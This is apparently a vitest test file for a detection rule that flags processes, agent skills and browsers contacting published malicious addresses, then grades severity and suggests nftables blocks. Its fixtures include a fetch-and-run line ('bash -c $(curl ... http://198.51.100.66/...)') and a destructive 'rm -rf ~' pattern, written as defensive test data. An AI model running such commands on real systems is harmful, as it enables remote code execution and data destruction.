import { describe, expect, test } from 'vitest';
import { egr01 } from '../../../src/detect/rules/egr-01.ts';
import type { Role } from '../../../src/types/snapshot.ts';
import { NOW, only, process, wordsIn } from '../builders.ts';
import { actor, commandsOf, HOSTILE, ledgerOf, lookAt, question, say, sayOf, to } from './hosts.ts';

const BAD = { remote: { address: '198.51.100.66', port: 80 } };

describe('EGR-01 tells', () => {
  test('of a skill that contacts a confirmed address, with source, process and a way to cut it off', () => {
    const finding = only(sayOf(egr01, actor('skill'), undefined, BAD));
    expect(finding).toMatchObject({
      severity: 'critical',
      subject: 'skill metrics',
      title: 'Skill "metrics" contacts 198.51.100.66, which is published as malicious',
      gatewayId: 'default',
      confidence: 'certain',
    });
    const words = wordsIn(finding);
    for (const part of ['198[.]51[.]100[.]66', 'https://reports.example/1', 'run.py', '198.51.100.66:80']) {
      expect(words).toContain(part);
    }
    expect(finding.fixes[0]?.command).toBe(
      "sudo nft 'add table inet clawwatch_block; add chain inet clawwatch_block out { type filter hook output priority 0; }; add rule inet clawwatch_block out ip daddr 198.51.100.66 drop'",
    );
  });

  test.each<[string, Role, string | undefined, string]>([
    ['a command to a confirmed name', 'exec', 'malbuzz.test', 'critical'],
    ['the gateway to a name below one', 'gateway', 'cdn.malbuzz.test', 'critical'],
    ['the agent browser', 'browser', 'malbuzz.test', 'critical'],
    ['a program of the user', 'other', 'malbuzz.test', 'high'],
    ['a skill to a reported name', 'skill', 'fakeskills.test', 'high'],
    ['a program of the user to a reported name', 'other', 'fakeskills.test', 'high'],
    ['a skill to an old confirmed name', 'skill', 'oldbuzz.test', 'high'],
    ['a program of the user to an old reported name', 'other', 'oldskills.test', 'medium'],
  ])('grades %s', (_, role, host, severity) => {
    expect(only(sayOf(egr01, actor(role), host)).severity).toBe(severity);
  });

  test('also what was approved, expected, learned or suppressed, and during learning', () => {
    for (const verdict of ['approved', 'expected', 'learned', 'suppressed'] as const) {
      expect(only(sayOf(egr01, actor('skill'), 'malbuzz.test', { verdict })).severity).toBe('critical');
    }
    const who = actor('skill');
    expect(only(say(egr01, lookAt([who], [to(who, 'malbuzz.test')]), { learning: true })).severity).toBe('critical');
  });

  test('an attempt that nobody answered, and one that is over', () => {
    const unanswered = only(sayOf(egr01, actor('exec'), undefined, { ...BAD, state: 'SYN_SENT' }));
    expect(unanswered.severity).toBe('critical');
    expect(wordsIn(unanswered)).toContain('the attempt counts');
    const ended = only(say(egr01, lookAt([], []), { ledger: ledgerOf('malbuzz.test', { minutesAgo: 23 * 60 }) }));
    expect(ended).toMatchObject({ severity: 'critical', subject: 'skill metrics' });
    expect(say(egr01, lookAt([], []), { ledger: ledgerOf('malbuzz.test', { minutesAgo: 25 * 60 }) })).toEqual([]);
  });

  test('address and port of one end as one fact, the same after a restart and on another port', () => {
    const prints = [1, 2].map((turn) => {
      const who = actor('skill');
      const ends = [80, 13338].map((port) => to(who, undefined, { remote: { address: BAD.remote.address, port } }));
      return only(say(egr01, lookAt([who], ends.slice(0, turn)))).fingerprint;
    });
    expect(prints[0]).toBe(prints[1]);
  });

  test('a question to a name server alone as medium, whoever asked', () => {
    const who = actor('exec');
    const look = (...asked: ReturnType<typeof question>[]) => lookAt([who], [], { questions: asked });
    expect(only(say(egr01, look(question('malbuzz.test', who))))).toMatchObject({
      severity: 'medium',
      subject: 'exec',
    });
    expect(only(say(egr01, look(question('malbuzz.test'))))).toMatchObject({
      severity: 'medium',
      subject: 'this host',
    });
    // A pid that is another process by now accuses nobody.
    const young = { ...who, process: { ...who.process, startedAt: NOW } };
    const asked = question('malbuzz.test', who, { at: NOW - 60_000 });
    expect(only(say(egr01, lookAt([young], [], { questions: [asked] }))).subject).toBe('this host');
  });

  test('the line that the user pasted, before any connection is seen', () => {
    const shell = actor('other', ['bash', '-c', '$(curl -fsSL http://198.51.100.66/aaaaaaaaaaaaaaaa)'], {
      comm: 'bash',
    });
    const finding = only(say(egr01, lookAt([shell], [])));
    expect(finding).toMatchObject({ severity: 'high', subject: 'process bash' });
    expect(finding.title).toContain('is told to go to 198.51.100.66');
  });

  test('a bad page of a host that is not bad as a whole, by the arguments', () => {
    const fetches = (url: string) => say(egr01, lookAt([actor('other', ['curl', url])], []));
    expect(only(fetches('https://pages.test/bad/x/1.sh')).severity).toBe('medium');
    expect(fetches('https://pages.test/good')).toEqual([]);
  });

  test('a name that leads nowhere as one less', () => {
    const finding = only(
      sayOf(egr01, actor('skill'), 'malbuzz.test', {
        remote: { address: '127.0.0.1', port: 443 },
        remoteClass: 'loopback',
        direction: 'internal',
      }),
    );
    expect(finding.severity).toBe('high');
    expect(wordsIn(finding)).toContain('sinkholed');
  });

  test('another name of the same address as one less', () => {
    const destination = { name: 'cdn.test', source: 'dns' as const, domain: 'cdn.test', otherNames: ['malbuzz.test'] };
    const finding = only(sayOf(egr01, actor('skill'), undefined, { destination }));
    expect(finding).toMatchObject({ severity: 'high', confidence: 'likely' });
  });
});

describe('EGR-01 is silent for', () => {
  test.each([
    ['an address nobody published', undefined, { remote: { address: '198.51.100.80', port: 443 } }],
    ['a name that ends in the letters of one', 'notmalbuzz.test', {}],
    ['a published name in the middle of another', 'malbuzz.test.example', {}],
  ])('%s', (_, host, more) => expect(sayOf(egr01, actor('skill'), host, more)).toEqual([]));

  test('a visitor who scans everybody', () => {
    const visit = to(actor('other'), undefined, { ...BAD, direction: 'inbound' });
    expect(say(egr01, lookAt([], [visit]))).toEqual([]);
  });

  test('a search that names the indicator', () => {
    const readers = [
      ['grep', '-r', '198.51.100.66', 'logs'],
      ['bash', '-c', 'grep malbuzz.test *.log'],
      ['vim', 'http://198.51.100.66/'],
    ].map((argv) => actor('other', argv));
    expect(say(egr01, lookAt(readers, []))).toEqual([]);
  });
});

test('EGR-01 says that it lacks names when it lacks them', () => {
  const finding = only(say(egr01, lookAt([], [], { telemetry: 'T0' })));
  expect(finding).toMatchObject({ ruleId: 'POS-08', verdict: 'unknown', severity: 'info' });
  expect(finding.evidence.map(({ label }) => label)).toContain('EGR-01');
});

test('EGR-01 stands hostile names and gives no command that runs them', () => {
  const actors = HOSTILE.flatMap((text) => [
    actor('skill', ['curl', text], { skill: text }),
    actor('other', ['bash', '-c', `curl http://198.51.100.66/${text}`], { comm: text, exe: `/tmp/${text}` }),
  ]);
  const ends = actors.map((who) => to(who, undefined, BAD));
  const asked = HOSTILE.map((name) => question(name));
  const findings = say(
    egr01,
    lookAt([...actors, { process: process(1), owner: actors[0]!.owner }], ends, { questions: asked }),
  );
  expect(findings.length).toBeGreaterThan(0);
  for (const command of commandsOf(findings)) expect(command).not.toMatch(/[\n\u001b\u202e]|; rm -rf ~ #$/);
});
